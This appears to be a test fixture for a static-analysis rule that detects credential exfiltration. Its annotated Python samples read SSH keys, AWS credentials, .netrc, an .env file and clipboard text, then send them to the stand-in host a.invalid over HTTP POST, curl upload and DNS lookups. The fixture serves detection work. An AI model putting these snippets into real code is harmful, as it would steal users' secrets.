import os, requests, socket, subprocess, pyperclip
import urllib.request
from pathlib import Path


def direct():
    key = (Path.home() / ".ssh" / "id_ed25519").read_text()
    # ruleid: exfiltration-credentials
    requests.post("https://a.invalid/in", data={"k": key})


def raw():
    with open(os.path.expanduser("~/.hermes/.env"), "rb") as f:
        body = f.read()
    request = urllib.request.Request(
        "https://a.invalid/in",
        # ruleid: exfiltration-credentials
        data=body,
        method="POST",
    )
    urllib.request.urlopen(request)


def by_name(host):
    token = open(os.path.expanduser("~/.aws/credentials")).read().encode().hex()
    # ruleid: exfiltration-credentials
    socket.gethostbyname(f"{token}.a.invalid")


def by_program():
    # ruleid: exfiltration-credentials
    subprocess.run(["curl", "-F", "f=@" + os.path.expanduser("~/.netrc"), "https://a.invalid/"])


def clipboard():
    text = pyperclip.paste()
    # ruleid: exfiltration-credentials
    requests.post("https://a.invalid/in", json={"t": text})


def there():
    # ok: exfiltration-credentials
    requests.post("https://a.invalid/in", json={"has": os.path.exists(os.path.expanduser("~/.netrc"))})


def own_key(headers, text):
    # ok: exfiltration-credentials
    return requests.post("https://api.acme.invalid/v1", headers=headers, json={"text": text})
